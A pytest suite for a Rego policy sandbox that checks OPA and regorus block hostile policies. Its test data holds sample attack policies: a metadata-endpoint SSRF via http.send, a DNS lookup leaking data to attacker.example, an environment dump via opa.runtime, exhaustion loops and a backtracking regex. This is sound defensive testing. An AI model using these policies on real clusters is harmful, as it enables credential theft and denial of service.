"""The Rego sandbox: what a policy may reach (SSRF) and how long and how much it may run (exhaustion).

Attack classes: server-side request forgery and information disclosure through policy built-ins
(``http.send``, ``net.lookup_ip_addr``, ``opa.runtime``), and denial of service by a policy that does not
finish or fills memory. Peers: Kyverno advisories (2023-2025) where policies' external calls (API calls,
image-registry lookups, service calls) could be pointed at internal endpoints; Gatekeeper and OPA
deployments that disable ``http.send`` with capabilities because a policy author is not a network client;
Argo CD and Flux advisories where an unbounded evaluation or rendering step (manifest generation, plugin
output, Helm templates) exhausted the controller. Here such built-ins are refused at import on both engines
with their name and line, regorus's ``http.send``/``opa.runtime`` raise in the evaluation workers, an
evaluation stops at its time limit (the regorus worker is killed; OPA's query is cancelled) and the object
is denied, and a built-in that errors blocks on both engines (OPA runs with strict built-in errors).

regorus's regular expressions are Rust's ``regex`` crate, which runs in linear time: a catastrophic
backtracking pattern is not slow there (shown below); OPA uses Go's RE2, also linear.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from policies.engine import Module, PolicyEvaluationError, PolicySet, RegoEngine
from policies.engine.opa_engine import OpaEngine
from policies.engine.opa_server import OpaServer
from policies.engine.regorus_engine import RegorusEngine
from policies.gate import BoundPolicy, Outcome, evaluate_target
from policies.services.definitions import PolicyDefinition, PolicyInvalid, validate_definition
from tests.opa_server import opa_server

__all__ = ["opa_server"]

LIMIT = 1.0  # seconds per evaluation for the engines under test

DEPLOYMENT = {
    "apiVersion": "apps/v1",
    "kind": "Deployment",
    "metadata": {"name": "web", "namespace": "shop"},
    "spec": {"template": {"spec": {"containers": [{"name": "web", "image": "web:1.0"}]}}},
}


@pytest.fixture(params=["regorus", "opa"])
def engine(request: pytest.FixtureRequest) -> Iterator[RegoEngine]:
    if request.param == "opa":
        server: OpaServer = request.getfixturevalue("opa_server")
        opa = OpaEngine(server.url, timeout=LIMIT)
        yield opa
        opa.close()
    else:
        yield RegorusEngine(timeout=LIMIT)


SSRF_SOURCES = {
    "http.send": """package main

deny[msg] {
    resp := http.send({"method": "get", "url": "http://169.254.169.254/latest/meta-data/"})
    resp.status_code == 200
    msg := "metadata reachable"
}
""",
    "net.lookup_ip_addr": """package main

deny[msg] {
    addrs := net.lookup_ip_addr(sprintf("%s.attacker.example", [input.metadata.name]))
    count(addrs) > 0
    msg := "resolved"
}
""",
    "opa.runtime": """package main

deny[msg] {
    env := opa.runtime().env
    msg := sprintf("%v", [env])
}
""",
}


@pytest.mark.parametrize("builtin", sorted(SSRF_SOURCES))
def test_network_and_host_builtins_are_refused_at_import(engine: RegoEngine, builtin: str) -> None:
    definition = PolicyDefinition(style="conftest", modules=(("ssrf.rego", SSRF_SOURCES[builtin]),))
    with pytest.raises(PolicyInvalid) as refused:
        validate_definition(definition, engine=engine)
    errors = refused.value.errors
    assert errors and errors[0]["path"] == "ssrf.rego"
    assert errors[0]["line"] == 4
    assert f"built-in {builtin} is not allowed" in errors[0]["message"]
    # The same check guards prepare(): a stored policy that predates it cannot be evaluated either.
    bound = BoundPolicy.conftest("p", "ssrf", [Module("ssrf.rego", SSRF_SOURCES[builtin])])
    decision = evaluate_target([DEPLOYMENT], [bound], engine=engine)
    assert decision.outcome is Outcome.BLOCKED
    assert decision.errors[0].kind == "compile"


def test_builtins_in_strings_comments_and_input_fields_are_fine(engine: RegoEngine) -> None:
    source = """package main

# http.send is not called here
deny[msg] {
    input.http.send == true
    msg := "the field is named http.send"
}
"""
    validated = validate_definition(
        PolicyDefinition(style="conftest", modules=(("ok.rego", source),)), engine=engine
    )
    assert validated.engine == engine.name


def test_regorus_workers_disable_http_send_even_without_the_import_check() -> None:
    """Defence in depth: a set that reaches the worker without the source check still cannot send."""
    engine = RegorusEngine(timeout=5)
    source = 'package main\nimport rego.v1\nr := http.send({"method": "get", "url": "http://127.0.0.1:9/"})\n'
    prepared_set = PolicySet((Module("x.rego", "package main\nr := 1\n"),), {"r": "data.main.r"})
    prepared = engine.prepare(prepared_set)
    spec = dict(prepared.set_spec())
    spec["digest"] = "bypass-" + prepared_set.digest
    spec["modules"] = [["x.rego", source], spec["modules"][-1]]
    with pytest.raises(PolicyEvaluationError, match=r"http\.send is disabled"):
        engine.pool.run(
            op="eval",
            target=f"data.{prepared.entry_package}.ep_r",
            set_spec=spec,
            session=None,
            inputs=[b"{}"],
            timeout=5,
        )


LOOP = """package main

import rego.v1

deny contains msg if {
    n := count([i | some i in numbers.range(1, 20000); some j in numbers.range(1, 20000); i == j + 1000000])
    n == 0
    msg := "never reached in time"
}
"""

HUGE_RANGE = """package main

import rego.v1

deny contains msg if {
    count(numbers.range(1, 50000000)) > 0
    msg := "never reached"
}
"""


def test_a_looping_policy_stops_at_the_limit_and_the_object_is_denied(engine: RegoEngine) -> None:
    bound = BoundPolicy.conftest("loop", "loop", [Module("loop.rego", LOOP)])
    decision = evaluate_target([DEPLOYMENT], [bound], engine=engine)
    assert decision.outcome is Outcome.BLOCKED
    assert [e.kind for e in decision.errors] == ["timeout"]
    assert f"{LIMIT:g}s" in decision.errors[0].message
    # The engine still answers afterwards (regorus: a new worker; OPA: the query was cancelled).
    ok = BoundPolicy.conftest(
        "ok", "ok", [Module("ok.rego", 'package main\ndeny["x"] { input.kind == "Pod" }\n')]
    )
    assert evaluate_target([DEPLOYMENT], [ok], engine=engine).outcome is Outcome.PASSED


def test_a_policy_that_builds_a_huge_range_is_stopped_and_blocks(engine: RegoEngine) -> None:
    """The case from the report (22.6 s past the 10 s limit): stopped by the time or the memory limit."""
    bound = BoundPolicy.conftest("range", "range", [Module("range.rego", HUGE_RANGE)])
    decision = evaluate_target([DEPLOYMENT], [bound], engine=engine)
    assert decision.outcome is Outcome.BLOCKED
    assert len(decision.errors) == 1 and decision.errors[0].kind in ("timeout", "engine")
    assert "limit" in decision.errors[0].message or "timeout" in decision.errors[0].message


def test_catastrophic_backtracking_regex_is_linear(engine: RegoEngine) -> None:
    source = """package main

deny[msg] {
    regex.match("^(a+)+$", concat("", [input.metadata.name, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab"]))
    msg := "matched"
}
"""
    bound = BoundPolicy.conftest("re", "re", [Module("re.rego", source)])
    decision = evaluate_target([DEPLOYMENT], [bound], engine=engine)
    assert decision.errors == [] and decision.outcome is Outcome.PASSED


ERRORING = """package main

deny[msg] {
    to_number(input.metadata.name) > 0
    msg := "numeric name"
}
"""


def test_an_erroring_builtin_blocks_on_both_engines(engine: RegoEngine) -> None:
    """Non-strict OPA would make the expression undefined and the deny rule would quietly pass."""
    bound = BoundPolicy.conftest("num", "num", [Module("num.rego", ERRORING)])
    decision = evaluate_target([DEPLOYMENT], [bound], engine=engine)
    assert decision.outcome is Outcome.BLOCKED
    assert decision.errors and decision.errors[0].kind == "engine"
    assert "to_number" in decision.errors[0].message or "parse" in decision.errors[0].message
